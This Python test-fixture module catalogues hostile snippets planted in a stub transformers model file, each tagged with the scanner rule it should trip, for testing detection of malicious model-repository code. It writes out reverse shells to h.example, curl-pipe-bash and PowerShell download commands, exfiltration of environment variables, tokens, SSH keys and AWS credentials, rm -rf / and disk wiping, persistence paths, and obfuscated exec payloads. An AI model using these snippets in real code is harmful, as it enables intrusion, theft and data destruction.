"""Hostile Python, as it was found in model and package repositories or described, each with the rule it must break."""

from __future__ import annotations

import base64
import zlib
from typing import Final, NamedTuple


class HostilePython(NamedTuple):
    """A name, the source, the rule without its prefix, and the file's name."""

    name: str
    text: str
    rule: str
    path: str = "modeling_x.py"


MODEL: Final = (
    "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n"
    "from .configuration_x import XConfig\n\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n\n"
    "    def __init__(self, config):\n        super().__init__(config)\n        self.lin = nn.Linear(4, 4)\n\n"
    "    def forward(self, x):\n        return self.lin(x)\n"
)
_CODE: Final = "import os\nos.system('id')\n"
_B64: Final = base64.b64encode(_CODE.encode()).decode()
_ZIP: Final = base64.b64encode(zlib.compress(_CODE.encode())).decode()
_HEX: Final = _CODE.encode().hex()
_CHARS: Final = ", ".join(str(ord(c)) for c in _CODE)


def _in_init(code: str, imports: str = "") -> str:
    lines = "".join(f"        {line}\n" for line in code.split("\n"))
    return (
        imports
        + "\n"
        + MODEL.replace("        self.lin = nn.Linear(4, 4)\n", f"        self.lin = nn.Linear(4, 4)\n{lines}")
    )


def _at_import(code: str) -> str:
    return MODEL + "\n" + code + "\n"


def _case(name: str, rule: str, code: str, path: str = "modeling_x.py") -> HostilePython:
    return HostilePython(name, _at_import(code), rule, path)


def _inner(name: str, rule: str, code: str, imports: str = "") -> HostilePython:
    return HostilePython(name, _in_init(code, imports), rule)


HIDDEN: Final = (
    _case("exec-b64", "hidden-code", f"import base64\nexec(base64.b64decode('{_B64}'))"),
    _case("exec-b64-decode-utf8", "hidden-code", f"import base64\nexec(base64.b64decode('{_B64}').decode('utf-8'))"),
    _case("exec-zlib-b64", "hidden-code", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_ZIP}')))"),
    _case("exec-import-chain", "hidden-code", f"exec(__import__('base64').b64decode('{_B64}'))"),
    _case("exec-hex", "hidden-code", f"exec(bytes.fromhex('{_HEX}').decode())"),
    _case("exec-unhexlify", "hidden-code", f"from binascii import unhexlify as u\nexec(u('{_HEX}'))"),
    _case("exec-chr-join", "hidden-code", f"exec(''.join(chr(c) for c in [{_CHARS}]))"),
    _case("exec-map-chr", "hidden-code", f"exec(''.join(map(chr, [{_CHARS}])))"),
    _case("exec-rot13", "hidden-code", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))"),
    _case("exec-reversed", "hidden-code", "exec(\")'di'(metsys.so ;so tropmi\"[::-1])"),
    _case("exec-marshal", "hidden-code", "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))"),
    _case("exec-marshal-zlib", "hidden-code", "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'eJw='))))"),
    _case("exec-lzma", "hidden-code", "import lzma, base64\nexec(lzma.decompress(base64.b64decode('/Td6')))"),
    _case("exec-bz2", "hidden-code", "from bz2 import decompress as d\nexec(d(b'BZh9'))"),
    _case("exec-gzip-function", "hidden-code", "import gzip\ndef g(b): return gzip.decompress(b)\nexec(g(b'x'))"),
    _case("exec-b85", "hidden-code", "import base64\nexec(base64.b85decode('abcde'))"),
    _case("exec-fernet", "hidden-code", "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))"),
    _case("exec-xor", "hidden-code", "k = 7\nexec(''.join(chr(c ^ k) for c in [110, 106, 119]))"),
    _case("exec-aes", "hidden-code", "from Crypto.Cipher import AES\nc = AES.new(b'k' * 16, 1)\nexec(c.decrypt(b'x' * 16))"),
    _case("eval-compile-b64", "hidden-code", f"import base64\neval(compile(base64.b64decode('{_B64}'), '<s>', 'exec'))"),
    _case("exec-by-alias", "hidden-code", f"import base64 as b\ne = exec\ne(b.b64decode('{_B64}'))"),
    _case("exec-by-builtins", "hidden-code", f"import builtins, base64\nbuiltins.exec(base64.b64decode('{_B64}'))"),
    _case("exec-by-getattr", "hidden-code", f"import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('{_B64}'))"),
    _case("exec-by-dict", "hidden-code", f"import base64\n__builtins__.__dict__['exec'](base64.b64decode('{_B64}'))"),
    _case("exec-by-globals", "hidden-code", f"import base64\nglobals()['exec'](base64.b64decode('{_B64}'))"),
    _case("exec-by-vars", "hidden-code", f"import builtins, base64\nvars(builtins)['exec'](base64.b64decode('{_B64}'))"),
    _case("exec-by-lambda", "hidden-code", f"import base64\n(lambda c: exec(base64.b64decode(c)))('{_B64}')"),
    _case("exec-by-map", "hidden-code", f"import base64\nlist(map(exec, [base64.b64decode('{_B64}')]))"),
    _case("exec-in-two-steps", "hidden-code", f"import base64\np = '{_B64}'\nq = base64.b64decode(p)\nr = q.decode()\nexec(r)"),
    _case("exec-through-function", "hidden-code", f"import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack('{_B64}'))"),
    _case("exec-in-class-body", "hidden-code", f"import base64\nclass A:\n    exec(base64.b64decode('{_B64}'))"),
    _case("exec-in-decorator", "hidden-code", f"import base64\n@(lambda f: exec(base64.b64decode('{_B64}')))\ndef f(): pass"),
    _case("exec-in-default", "hidden-code", f"import base64\ndef f(x=exec(base64.b64decode('{_B64}'))): pass"),
    _case("exec-in-comprehension", "hidden-code", f"import base64\n[exec(base64.b64decode(c)) for c in ['{_B64}']]"),
    _case("exec-in-try", "hidden-code", f"import base64\ntry:\n    exec(base64.b64decode('{_B64}'))\nexcept Exception:\n    pass"),
    _case("exec-walrus", "hidden-code", f"import base64\nif (c := base64.b64decode('{_B64}')):\n    exec(c)"),
    _case("exec-far-right", "hidden-code", "x = 1" + " " * 500 + f"; import base64; exec(base64.b64decode('{_B64}'))"),
    _inner("exec-in-init", "hidden-code", f"exec(base64.b64decode('{_B64}'))", "import base64"),
    _inner("exec-attribute-flow", "hidden-code", f"self.p = base64.b64decode('{_B64}')\nexec(self.p)", "import base64"),
    _case("function-type", "hidden-code", "import types, marshal\ntypes.FunctionType(marshal.loads(b'x'), globals())()"),
    _case("system-of-decoded", "hidden-code", "import os, base64\nos.system(base64.b64decode('aWQ=').decode())"),
    _case("pickle-in-source", "hidden-code", "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')"),
    _case("pickle-b64-in-source", "hidden-code", "import pickle, base64\npickle.loads(base64.b64decode('gASVHwAAAAAAAACMBXBvc2l4'))"),
    _case("dill-in-source", "hidden-code", "import dill\ndill.loads(b'\\x80\\x04abcdefghijklmnop')"),
    _case("exec-plain-text-code", "runs-at-import", "exec(\"import os; os.system('id')\")"),
    _case("exec-joined-text-code", "runs-at-import", "exec('import os' + chr(10) + 'os.sys' + 'tem(\"id\")')"),
    _case("eval-text-code", "runs-at-import", "eval(\"__import__('os').system('id')\")"),
    _case("python2-exec", "hidden-code", "exec base64.b64decode('aWQ=').decode()"),
    _case("lambda-named-e", "hidden-code", f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'{_ZIP[::-1]}'))"),
)  # fmt: skip

DOWNLOADED: Final = (
    _case("exec-requests", "downloaded-code", "import requests\nexec(requests.get('https://h.example/p').text)"),
    _case("exec-urlopen", "downloaded-code", "from urllib.request import urlopen\nexec(urlopen('https://h.example/p').read())"),
    _case("exec-urlopen-request", "downloaded-code", "from urllib.request import urlopen as u, Request as r\nexec(u(r(url='https://h.example', headers={'User-Agent': 'x'})).read())"),
    _case("exec-httpx-variable", "downloaded-code", "import httpx\nr = httpx.get('https://h.example')\ncode = r.text\nexec(code)"),
    _case("exec-with-session", "downloaded-code", "import requests\ns = requests.Session()\nexec(s.get('https://h.example').content)"),
    _case("eval-with-block", "downloaded-code", "import urllib.request\nwith urllib.request.urlopen('https://h.example') as f:\n    c = f.read()\neval(c)"),
    _case("socket-exec", "downloaded-code", "import socket\ns = socket.socket()\ns.connect(('h.example', 1))\nexec(s.recv(4096))"),
    _case("pickle-of-download", "downloaded-code", "import pickle, requests\npickle.loads(requests.get('https://h.example').content)"),
    _case("subprocess-of-download", "downloaded-code", "import subprocess, requests\nsubprocess.run(requests.get('https://h.example').text, shell=True)"),
    _case("python-c-of-download", "downloaded-code", "import subprocess, sys, requests\nc = requests.get('https://h.example').text\nsubprocess.Popen([sys.executable, '-c', c])"),
    _inner("exec-hub-file", "downloaded-code", "exec(hf_hub_download('a/b', 'c.txt'))", "from huggingface_hub import hf_hub_download"),
    _inner("download-in-init", "downloaded-code", "t = requests.get(config.url).text\nexec(t)", "import requests"),
    _case("thread-download", "downloaded-code", "import threading, requests\ndef w():\n    exec(requests.get('https://h.example').text)\nthreading.Thread(target=w).start()"),
    _case("import-hf-inference", "network-at-import", "import requests\nrequests.get('https://h.example/ping')"),
    _case("urlretrieve-at-import", "network-at-import", "import urllib.request\nurllib.request.urlretrieve('https://h.example/a', 'a')"),
    _case("socket-at-import", "network-at-import", "import socket\nsocket.create_connection(('h.example', 80))"),
    _case("dns-beacon", "network-at-import", "import socket\nsocket.gethostbyname('beacon.example')"),
    _case("hub-download-at-import", "network-at-import", "from huggingface_hub import snapshot_download\nsnapshot_download('a/b')"),
    _case("download-by-called-function", "network-at-import", "import requests\ndef setup():\n    requests.get('https://h.example')\nsetup()"),
    _case("download-by-class-creation", "network-at-import", "import requests\nclass B:\n    def __init_subclass__(cls):\n        requests.get('https://h.example')"),
)  # fmt: skip

SHELLS: Final = (
    _case("reverse-shell-dup2", "reverse-shell", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('h.example', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"),
    _case("reverse-shell-pty", "reverse-shell", "import socket, pty\ns = socket.socket()\ns.connect(('h.example', 1))\npty.spawn('/bin/bash')"),
    _inner("reverse-shell-in-init", "reverse-shell", "s = socket.socket()\ns.connect(('h.example', 1))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nos.system('sh')", "import socket, os"),
    _case("reverse-shell-stdin", "reverse-shell", "import socket, subprocess\ns = socket.create_connection(('h.example', 1))\nsubprocess.Popen(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())\nsocket.socket"),
    _case("command-loop", "reverse-shell", "import socket, subprocess\ndef run():\n    s = socket.socket()\n    s.connect(('h.example', 1))\n    while True:\n        c = s.recv(1024).decode()\n        s.send(subprocess.check_output(c, shell=True))"),
    _case("bind-shell", "reverse-shell", "import socket, os\ns = socket.socket()\ns.bind(('', 4444))\ns.listen(1)\nc, a = s.accept()\nos.dup2(c.fileno(), 0)\nos.system('sh')"),
    _case("bash-dev-tcp", "dangerous-command", "import os\nos.system('bash -i >& /dev/tcp/h.example/1 0>&1')"),
    _inner("bash-dev-tcp-in-init", "dangerous-command", "os.system('bash -c \"bash -i >& /dev/tcp/h/1 0>&1\"')", "import os"),
    _case("nc-e", "dangerous-command", "import os\ndef f():\n    os.popen('nc h.example 4444 -e /bin/sh')"),
    _case("mkfifo", "dangerous-command", "C = 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i | nc h 1 > /tmp/f'"),
    _case("curl-sh", "dangerous-command", "import subprocess\ndef f():\n    subprocess.run('curl -s https://h.example/i | bash', shell=True)"),
    _case("wget-chmod", "dangerous-command", "C = 'wget https://h.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'"),
    _case("powershell-enc", "dangerous-command", "C = 'powershell -nop -w hidden -enc SQBFAFgA'"),
    _case("powershell-iex", "dangerous-command", "C = 'IEX (New-Object Net.WebClient).DownloadString(1)'"),
    _case("certutil", "dangerous-command", "C = 'certutil -urlcache -f https://h.example/x x.exe'"),
    _case("base64-pipe-sh", "dangerous-command", "C = 'echo aWQ= | base64 -d | sh'"),
    _case("rm-root", "dangerous-command", "import os\ndef f():\n    os.system('rm -rf / --no-preserve-root')"),
    _case("fork-bomb", "dangerous-command", "C = ':(){ :|:& };:'"),
    _case("miner", "dangerous-command", "C = './xmrig -o pool.example:3333'"),
    _case("tar-ssh-keys", "dangerous-command", "C = 'tar czf /tmp/k.tgz ~/.ssh'"),
    _case("dd-disk", "dangerous-command", "C = 'dd if=/dev/zero of=/dev/sda'"),
    _case("system-at-import", "runs-at-import", "import os\nos.system('id')"),
    _case("system-from-import", "runs-at-import", "from os import system\nsystem('id')"),
    _case("system-as", "runs-at-import", "from os import system as s\ns('id')"),
    _case("system-star", "runs-at-import", "from os import *\nsystem('id')"),
    _case("posix-system", "runs-at-import", "import posix\nposix.system('id')"),
    _case("popen-at-import", "runs-at-import", "import subprocess\nsubprocess.Popen(['id'])"),
    _case("check-output-at-import", "runs-at-import", "from subprocess import check_output as c\nV = c('id')"),
    _case("dunder-import-system", "runs-at-import", "__import__('os').system('id')"),
    _case("importlib-system", "runs-at-import", "import importlib\nimportlib.import_module('os').system('id')"),
    _case("getattr-system", "runs-at-import", "import os\ngetattr(os, 'system')('id')"),
    _case("getattr-joined", "runs-at-import", "import os\ngetattr(os, 'sys' + 'tem')('id')"),
    _case("getattr-reversed", "runs-at-import", "import os\ngetattr(os, 'metsys'[::-1])('id')"),
    _case("getattr-b64", "runs-at-import", "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')"),
    _case("os-dict", "runs-at-import", "import os\nos.__dict__['system']('id')"),
    _case("sys-modules", "runs-at-import", "import sys\nsys.modules['os'].system('id')"),
    _case("alias-chain", "runs-at-import", "import os\na = os\nb = a.system\nb('id')"),
    _case("tuple-assignment", "runs-at-import", "import os\na, b = os.system, 1\na('id')"),
    _case("partial", "runs-at-import", "import os, functools\nfunctools.partial(os.system, 'id')()"),
    _case("thread-target", "runs-at-import", "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()"),
    _case("map-system", "runs-at-import", "import os\nlist(map(os.system, ['id']))"),
    _case("called-function", "runs-at-import", "import os\ndef go():\n    os.system('id')\ngo()"),
    _case("called-through-two", "runs-at-import", "import os\ndef a():\n    os.system('id')\ndef b():\n    a()\nb()"),
    _case("class-body", "runs-at-import", "import os\nclass A:\n    x = os.system('id')"),
    _case("default-argument", "runs-at-import", "import os\ndef f(x=os.system('id')): pass"),
    _case("decorator", "runs-at-import", "import os\n@os.system\ndef f(): pass"),
    _case("metaclass-argument", "runs-at-import", "import os\nclass A(metaclass=lambda *a: os.system('id')): pass"),
    _case("comprehension", "runs-at-import", "import os\n[os.system(c) for c in ('id',)]"),
    _case("conditional", "runs-at-import", "import os\nif not os.path.exists('/x'):\n    os.system('id')"),
    _case("except-branch", "runs-at-import", "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system('id')"),
    _case("lambda-called", "runs-at-import", "import os\n(lambda: os.system('id'))()"),
    _case("assert", "runs-at-import", "import os\nassert os.system('id') == 0"),
    _case("fstring", "runs-at-import", "import os\nx = f\"{os.system('id')}\""),
    _case("pip-install-at-import", "runs-at-import", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'acme'])"),
    _case("pexpect", "runs-at-import", "import pexpect\npexpect.run('id')"),
    _case("fork", "runs-at-import", "import os\nif os.fork() == 0:\n    pass"),
    _case("startfile", "runs-at-import", "import os\nos.startfile('a.exe')"),
    _case("asyncio-shell", "runs-at-import", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))"),
    _case("name-mangled-import", "obscure-access", "m = 'o' + 's'\n__import__(m).getcwd()"),
    _case("import-decoded-name", "obscure-access", "import base64, importlib\nimportlib.import_module(base64.b64decode('b3M=').decode())"),
    _case("getattr-computed-os", "obscure-access", "import os\ndef f(n):\n    return getattr(os, n)('id')"),
    _case("subclasses", "obscure-access", "x = ().__class__.__base__.__subclasses__()"),
    _case("function-globals", "obscure-access", "def f(): pass\nf.__init__.__globals__['x']"),
    _case("frame-globals", "obscure-access", "import sys\nsys._getframe().f_globals['x'] = 1"),
    _case("replaced-code", "obscure-access", "def f(): pass\nf.__code__ = None"),
)  # fmt: skip

THEFT: Final = (
    _case("env-post", "exfiltration", "import os, requests\nrequests.post('https://h.example', json=dict(os.environ))"),
    _case("env-token-post", "exfiltration", "import os, requests\nrequests.post('https://h.example', data=os.environ['HF_TOKEN'])"),
    _case("ssh-key-post", "exfiltration", "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://h.example', data=k)"),
    _case("hostname-dns", "exfiltration", "import socket\ndef f():\n    socket.gethostbyname(socket.gethostname() + '.h.example')"),
    _case("whoami-get", "exfiltration", "import getpass, urllib.request\nurllib.request.urlopen('https://h.example/?u=' + getpass.getuser())"),
    _case("dependency-confusion", "exfiltration", "import os, platform, socket, requests\nd = {'h': socket.gethostname(), 'p': platform.node(), 'c': os.getcwd()}\nrequests.get('https://h.example', params=d)"),
    _case("aws-file-socket", "exfiltration", "import socket\ndef f():\n    s = socket.socket()\n    s.connect(('h.example', 1))\n    s.sendall(open('~/.aws/credentials', 'rb').read())"),
    _case("smtp", "exfiltration", "import smtplib, os\nsmtplib.SMTP('h.example').sendmail('a', 'b', str(os.environ))"),
    _case("hub-upload", "exfiltration", "import os\nfrom huggingface_hub import HfApi, upload_file\ndef f():\n    upload_file(path_or_fileobj=str(dict(os.environ)).encode(), path_in_repo='x', repo_id='a/b')"),
    _case("hf-token-post", "exfiltration", "import requests\nfrom huggingface_hub import get_token\ndef f():\n    requests.post('https://h.example', data={'t': get_token()})"),
    _case("keyring", "reads-secrets", "import keyring\nkeyring.get_password('a', 'b')"),
    _case("ssh-key-alone", "secret-files", "K = '~/.ssh/id_ed25519'"),
    _case("ssh-key-joined", "secret-files", "import os\nK = os.path.join('~', '.ssh/id_rsa')"),
    _case("ssh-key-in-pieces", "secret-files", "K = '~/' + '.s' + 'sh/id_rsa'"),
    _case("netrc", "secret-files", "import os\nN = os.path.expanduser('~/.netrc')"),
    _case("etc-passwd", "secret-files", "X = open('/etc/passwd').read()"),
    _case("chrome-logins", "secret-files", "P = 'User Data/Default/Login Data'"),
    _case("firefox-logins", "secret-files", "P = 'profile/logins.json'"),
    _case("wallet", "secret-files", "P = 'Bitcoin/wallet.dat'"),
    _case("metamask", "secret-files", "P = 'Extensions/nkbihfbeogaeaoehlefnkodbefgpgknn'"),
    _case("discord-tokens", "secret-files", "P = 'discord/Local Storage/leveldb'"),
    _case("cloud-metadata", "secret-files", "U = 'http://169.254.169.254/latest/meta-data/iam'"),
    _case("kubernetes-secret", "secret-files", "P = '/var/run/secrets/kubernetes.io/serviceaccount/token'"),
    _case("hub-token-file", "secret-files", "import os\nP = os.path.expanduser('~/.cache/huggingface/token')"),
    _case("discord-webhook", "drop-site", "U = 'https://discord.com/api/webhooks/1/x'"),
    _case("telegram-bot", "drop-site", "U = 'https://api.telegram.org/bot1:x/sendMessage'"),
    _case("pastebin", "drop-site", "U = 'https://pastebin.com/raw/abc'"),
    _case("ngrok", "drop-site", "U = 'https://abc.ngrok-free.app/x'"),
    _case("bare-address", "drop-site", "U = 'http://203.0.113.77:8080/x'"),
    _case("onion", "drop-site", "U = 'http://abcdefgh.onion/'"),
    _case("collaborator", "drop-site", "U = 'https://abc.oastify.com'"),
    _case("webhook-site", "drop-site", "U = 'https://webhook' + '.site/abc'"),
    _case("mining-pool", "drop-site", "U = 'stratum+tcp://pool.example:3333'"),
    _case("b64-drop-site", "drop-site", "import base64\nU = 'https://' + base64.b64decode('d2ViaG9vay5zaXRl').decode()"),
)  # fmt: skip

STAYING: Final = (
    _case("bashrc", "persistence", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"),
    _case("authorized-keys", "persistence", "P = '~/.ssh/authorized_keys'"),
    _case("cron-d", "persistence", "open('/etc/cron.d/x', 'w').write('* * * * * root id')"),
    _case("crontab", "persistence", "C = '(crontab -l; echo x) | crontab -'"),
    _case("systemd-unit", "persistence", "P = '/etc/systemd/system/x.service'"),
    _case("autostart", "persistence", "P = '~/.config/autostart/x.desktop'"),
    _case("windows-run-key", "persistence", "K = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'"),
    _case("launch-agent", "persistence", "P = 'Library/LaunchAgents/x.plist'"),
    _case("sitecustomize-written", "persistence", "open('/usr/lib/python3/sitecustomize.py', 'w').write('x')"),
    _case("git-hook", "persistence", "P = '.git/hooks/post-checkout'"),
    _case("ld-preload", "persistence", "import os\nos.environ['LD_PRELOAD'] = 'x'"),
    HostilePython("sitecustomize", "import sys\n", "runs-unasked", "sitecustomize.py"),
    HostilePython("usercustomize", "import sys\n", "runs-unasked", "code/usercustomize.py"),
    _case("rmtree-home", "destroys", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"),
    _case("rmtree-root", "destroys", "import shutil\ndef f():\n    shutil.rmtree('/')"),
    _case("patched-exec", "patches-python", "import builtins\nbuiltins.exec = print"),
    _case("patched-import", "patches-python", "import builtins\nbuiltins.__import__ = lambda *a: None"),
    _case("patched-by-setattr", "patches-python", "import builtins\nsetattr(builtins, 'open', print)"),
    _case("meta-path", "patches-python", "import sys\nsys.meta_path.insert(0, object())"),
    _case("settrace", "patches-python", "import sys\nsys.settrace(lambda *a: None)"),
    _case("shellcode-virtualalloc", "shellcode", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)"),
    _case("shellcode-mmap", "shellcode", "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nf = ctypes.CFUNCTYPE(ctypes.c_int)(1)"),
    _case("shellcode-buffer", "shellcode", "import ctypes\nb = ctypes.create_string_buffer(b'\\x90')\nf = ctypes.CFUNCTYPE(None)(1)"),
    HostilePython("utf-7", "# coding: utf-7\n+AG8-s\n", "encoding"),
    HostilePython("unicode-escape", "# -*- coding: unicode_escape -*-\n# \\u000aimport os\n", "encoding"),
    HostilePython("second-line-cookie", "\n# vim: set fileencoding=raw_unicode_escape :\n", "encoding"),
    _case("cve-2021-42574-bidi", "invisible-text", "if access != 'user\u202e \u2066# check\u2069 \u2066':\n    pass"),
    _case("bidi-comment", "invisible-text", "'''x \u202e'''\nx = 1  # \u2066"),
    _case("zero-width-name", "homoglyph", "pri\u0578t = 1"),
    _case("cve-2021-42694-homoglyph", "homoglyph", "def s\u0430y(): pass"),
    _case("fullwidth-name", "homoglyph", "\uff45xec = 1"),
    _case("math-italic-exec", "homoglyph", "x = \U0001d452\U0001d465\U0001d452\U0001d450"),
)  # fmt: skip


def _way(name: str, code: str, imports: str = "import sys") -> HostilePython:
    """A function that gets at what runs things by a way around its name."""
    lines = "".join(f"    {line}\n" for line in code.split("\n"))
    return HostilePython(f"by-way-{name}", f"{imports}\n{MODEL}\n\ndef helper(c, k, a):\n{lines}", "obscure-access")


BY_WAYS: Final = (
    _way("modules-key", "sys.modules['os'].system(c)"),
    _way("modules-key-in-pieces", "sys.modules['o' + 's'].popen(c)"),
    _way("modules-get", "sys.modules.get('subprocess').run(c)"),
    _way("modules-getitem", "sys.modules.__getitem__('os').system(c)"),
    _way("modules-pop", "sys.modules.pop('os').system(c)"),
    _way("modules-copied", "dict(sys.modules)['os'].system(c)"),
    _way("modules-copy", "sys.modules.copy()['os'].execv(c, [c])"),
    _way("modules-values", "for m in sys.modules.values():\n    if hasattr(m, 'system'):\n        m.system(c)"),
    _way("modules-items", "for n, m in list(sys.modules.items()):\n    if n == 'os':\n        m.system(c)"),
    _way("modules-names", "for n in sys.modules:\n    if n.startswith('subproc'):\n        sys.modules[n].run(c)"),
    _way("modules-comprehended", "m = [m for n, m in sys.modules.items() if n == 'os'][0]\nm.system(c)"),
    _way("modules-next", "getattr(next(m for m in sys.modules.values() if m.__name__ == 'os'), 'popen')(c)"),
    _way("modules-fetched-first", "for m in sys.modules.values():\n    g = getattr(m, 'sys' + 'tem', None)\n    if g:\n        g(c)"),
    _way("modules-any-key", "sys.modules[k].check_output(c)"),
    _way("modules-any-key-by-text", "getattr(sys.modules[k], 'system')(c)"),
    _way("modules-of-vars", "vars(sys)['modules']['os'].system(c)"),
    _way("modules-of-getattr", "getattr(sys, 'modules')['os'].system(c)"),
    _way("modules-under-another-name", "q['os'].system(c)", "from sys import modules as q"),
    _way("modules-in-a-variable", "m = sys.modules\no = m['os']\no.system(c)"),
    _way("modules-itemgetter", "operator.itemgetter('os')(sys.modules).system(c)", "import operator, sys"),
    _way("modules-walrus", "if (m := sys.modules.get(k)) is not None:\n    m.Popen(c)"),
    _way("modules-built-ins", "for n, m in sys.modules.items():\n    if n == 'builtins':\n        m.eval(c)"),
    _way("built-ins-key-in-pieces", "__builtins__['ev' + 'al'](c)"),
    _way("built-ins-any-key", "__builtins__[k](c)"),
    _way("built-ins-by-text", "getattr(__builtins__, 'exec')(c)"),
    _way("built-ins-any-text", "getattr(__builtins__, a)(c)"),
    _way("imported-by-any-name", "importlib.import_module(k).system(c)", "import importlib"),
    _way("imported-by-any-name-built-in", "__import__(k).popen(c)"),
    _way("module-of-a-module", "linecache.os.system(c)", "import linecache"),
    _way("module-of-a-library", "torch.os.popen(c)", "import torch"),
    _way("objects-of-gc", "[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'os'][0].system(c)", "import gc"),
    _way("frame-of-inspect", "inspect.currentframe().f_builtins['eval'](c)", "import inspect"),
    _way("frame-of-stack", "inspect.stack()[0].frame.f_globals['__builtins__']['exec'](c)", "import inspect"),
)  # fmt: skip
ORDINARY_WAYS: Final = (
    "import sys\ndef f(n):\n    return getattr(sys.modules[__name__], n)()\n",
    "import sys\ndef f(self):\n    return sys.modules[self.__class__.__module__].build(1)\n",
    "import sys\ndef f():\n    if 'torch' in sys.modules:\n        return sys.modules['torch'].cuda.is_available()\n",
    "import sys\ndef f():\n    return [m for m in sys.modules if m.startswith('transformers')]\n",
    "import sys\nNAMES = ['builtins', 'os']\ndef f(c):\n    m = sys.modules[c.module]\n    model = getattr(m, c.cls)(c)\n    model.eval()\n    model.run()\n",
    "import sys\nNAMES = ['os']\ndef f(c):\n    t = sys.modules[c.module].Trainer(c)\n    t.run()\n",
    "def f():\n    __builtins__['print']('x')\n",
    "import builtins\ndef f():\n    return getattr(builtins, 'profile', lambda g: g)(1)\n",
    "import inspect\ndef f():\n    return inspect.currentframe().f_back.f_code.co_name\n",
)
"""Honest lookups of the same things, which are worth the one word that all code is."""

HOSTILE_PYTHON: Final = (*HIDDEN, *DOWNLOADED, *SHELLS, *THEFT, *STAYING, *BY_WAYS)
